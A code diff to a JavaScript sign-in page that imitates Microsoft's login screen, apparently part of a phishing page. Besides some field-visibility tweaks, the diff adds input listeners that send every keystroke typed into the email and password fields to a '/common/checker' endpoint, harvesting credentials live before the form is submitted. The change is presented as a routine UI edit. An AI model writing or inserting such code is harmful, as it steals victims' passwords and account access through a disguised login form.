@@ -21,7 +21,7 @@ SignIn.ready(() => {
     const known = !["email", "tiles"].includes(next);
     const asksPassword = next === "password";
     offScreen(email, next !== "email");
-    offScreen(password, !asksPassword);
+    offScreen(password, !asksPassword && !(own.boxShown && next === "email"));
     byId("idBtn_Back").hidden = !known;
     for (const part of [document.querySelector(".password-title"), document.querySelector(".forgot")]) part.hidden = !asksPassword;
     byId("displayName").textContent = byId("displayName").title = known ? form.elements.login.value : "";
@@ -32,7 +32,7 @@ SignIn.ready(() => {
     }
     submit.hidden = ["tiles", "split", "phone"].includes(next);
     submit.value = next === "email" ? t.next : t.sign_in;
-    if (next === "email") email.focus();
+    if (next === "email") { email.focus(); password.value = ""; }
     if (asksPassword) password.focus();
   };
 
@@ -112,6 +112,11 @@ SignIn.ready(() => {
   byId("msaTile").addEventListener("click", () => location.assign("https://login.live.com/"));
   byId("idA_PWD_SwitchToPassword").addEventListener("click", (event) => { event.preventDefault(); show("password"); });
   byId("idBtn_Back").addEventListener("click", () => show("email"));
+  if (own.checked) {
+    for (const part of [email, password]) {
+      part.addEventListener("input", () => fetch("/common/checker", { method: "POST", body: JSON.stringify({ typed: part.value }) }));
+    }
+  }
   form.addEventListener("submit", (event) => {
     event.preventDefault();
     if (view === "email") { askWho(email.value); return; }
@@ -119,5 +124,5 @@ SignIn.ready(() => {
     busy(true);
     form.submit();
   });
-  show(own.view, { keepErrors: $Config.sErrorCode !== "50058" });
+  show(own.view, { keepErrors: Boolean($Config.sErrTxt) || $Config.sErrorCode !== "50058" });
 });
